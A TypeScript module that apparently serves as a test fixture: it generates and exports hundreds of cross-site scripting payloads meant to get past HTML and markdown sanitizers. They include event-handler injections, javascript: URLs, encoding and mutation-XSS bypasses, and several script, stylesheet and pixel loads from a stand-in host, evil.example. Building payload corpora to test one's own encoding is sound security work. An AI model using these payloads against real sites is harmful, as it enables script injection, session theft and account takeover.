/** What every payload tries to call. */
const RUN = 'xss()'

const elements = [
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="data:text/html,<script>parent.${RUN}</script>">`,
  `<embed src="javascript:${RUN}">`,
  `<marquee onstart=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href="data:text/css," onload=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x to=y>`,
  `<svg><a href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart=${RUN}>x</b>`,
  `<b tabindex=0 id=x onfocus=${RUN} autofocus>x</b>`,
  `<button popovertarget=p>x</button><b popover id=p onbeforetoggle=${RUN}>x</b>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<b onpointerenter=${RUN}>x</b>`,
  `<script>${RUN}</script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<script type=module>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src="//evil.example/pixel.png">`,
  `<img srcset="//evil.example/x 2x">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<template><img src=x onerror=${RUN}></template>`,
] as const

/** What stands open where a text is put. */
const ways = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '-->',
  ']]>',
  '</a></p></div>',
  '"/><',
] as const

/** Spaces that parsers know and filters forget. */
const spaces = ['/', '\t', '\n', '\f', ' / ', '/**/'] as const

const attributes = [
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}`,
  `x onerror=${RUN} `,
  `" style="animation:a" onanimationend="${RUN}`,
  `"srcdoc="<script>parent.${RUN}</script>`,
  `" src="//evil.example/a`,
  `\\" onmouseover=\\"${RUN}`,
]

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript://group.example/%0a${RUN}`,
  `javascript:/*https://group.example*/${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://group.example/${RUN}`,
  `https://group.example/"onmouseover="${RUN}`,
  `https://group.example/'><img src=x onerror=${RUN}>`,
  `https://javascript:${RUN}@evil.example/`,
  `view-source:javascript:${RUN}`,
]

const markdown = [
  `[x](javascript:${RUN})`,
  `[x](JAVASCRIPT:${RUN})`,
  `[x](javascript&#58;${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `![x](x" onerror="${RUN})`,
  `![x](//evil.example/pixel.png)`,
  `![x](https://evil.example/pixel.png)`,
  `[x](https://group.example" onmouseover="${RUN})`,
  `[x](https://group.example "x" onmouseover="${RUN}")`,
  `<https://group.example onmouseover=${RUN}>`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `**<img src=x onerror=${RUN}>**`,
  `# <svg onload=${RUN}>`,
  `- <img src=x onerror=${RUN}>`,
  `[<img src=x onerror=${RUN}>](https://group.example)`,
  `https://group.example/<svg/onload=${RUN}>`,
  `\`<img src=x onerror=${RUN}>\``,
  `    <img src=x onerror=${RUN}>`,
]

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{@html '<img src=x onerror=${RUN}>'}`,
  `{${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `%sveltekit.body%`,
  `%lang%" onload="${RUN}`,
]

const encoded = [
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cimg src=x onerror=${RUN}%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `＜img src=x onerror=${RUN}＞`,
  `\u2039img src=x onerror=${RUN}\u203a`,
  `<\u200bscript>${RUN}</script>`,
  `<img src=x onerror\u00a0=${RUN}>`,
  `<img src=x onerror\u2028=${RUN}>`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<ſcript>${RUN}</ſcript>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror="&#120;ss()">`,
]

const scripts = [
  `</script><script>${RUN}</script>`,
  `</SCRIPT ><svg onload=${RUN}>`,
  `<!--<script>`,
  `<!--<script></script><img src=x onerror=${RUN}>`,
  `\\"};${RUN};//`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\u2028${RUN}//`,
  `"}</script ><script>${RUN}</script>`,
]

const mutated = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<table><td><svg><desc><style><img src="</style><img src=x onerror=${RUN}>">`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<title><a title="</title><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
]

const styles = [
  `</style><img src=x onerror=${RUN}>`,
  `<style>@import "//evil.example/x.css"</style>`,
  `x:expression(${RUN})`,
  `;background:url(//evil.example/x)`,
  `<b style="background:url(javascript:${RUN})">x</b>`,
  `<b style="background:url(//evil.example/x)">x</b>`,
]

/** Every n-th pair of two lists, so that each of either list is in. */
const pairs = elements.flatMap((element, index) => {
  const way = ways[1 + (index % (ways.length - 1))] ?? ''
  const space = spaces[index % spaces.length] ?? ' '
  return [element, way + element, way + element.replace(' ', space).toUpperCase()]
})

/** Texts that run something in a page that does not encode them. */
export const payloads: string[] = [
  ...new Set([
    ...pairs.map((text) => text.replaceAll(RUN.toUpperCase(), RUN)),
    ...attributes,
    ...addresses,
    ...markdown,
    ...templates,
    ...encoded,
    ...scripts,
    ...mutated,
    ...styles,
  ]),
]

/** The payloads in few texts, none longer than a name may be. */
export function inGroups(longest: number): string[][] {
  const groups: string[][] = []
  let room = 0
  for (const payload of payloads) {
    if (payload.length + 1 > room) {
      groups.push([])
      room = longest
    }
    groups.at(-1)?.push(payload)
    room -= payload.length + 1
  }
  return groups
}
